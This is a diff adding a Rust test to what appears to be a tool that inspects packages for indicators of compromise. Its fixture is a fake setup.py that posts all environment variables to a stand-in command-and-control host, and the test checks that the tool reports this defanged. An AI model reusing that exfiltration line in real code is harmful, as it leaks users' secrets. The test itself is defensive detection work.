@@ -109,3 +109,24 @@ fn a_package_that_could_kill_its_reader_stops_nobody() {
     assert!(matches!(ran.code, 0 | 10 | 20 | 30), "{} {}", ran.code, ran.out);
     ran.ended(ran.code, &["2 targets:", "plain.tgz  2 files"]);
 }
+
+#[test]
+fn indicators_of_compromise_are_named_and_cannot_be_followed() {
+    let user = User::new();
+    let code = "import os, requests\nhome = 'https://homepage.example/about'\nwallet = '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'\n\
+        requests.post('https://c2.example/in', data=dict(os.environ))\nopen('/tmp/.x', 'w').write(wallet)\n";
+    let files: [(&str, &[u8]); 2] =
+        [("x-1.0/setup.py", code.as_bytes()), ("x-1.0/README.md", b"https://readme.example/a")];
+    user.file("evil.tgz", testkit::archive::tgz(&files));
+    let ran = user.run(&["inspect", "evil.tgz"]);
+    ran.ended(
+        20,
+        &[
+            "hxxps://c2[.]example/in",
+            "c2[.]example  sent to",
+            "bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
+            "/tmp/.x  written",
+        ],
+    );
+    assert!(!ran.out.contains("readme") && !ran.out.contains("homepage[.]example"), "{}", ran.out);
+}
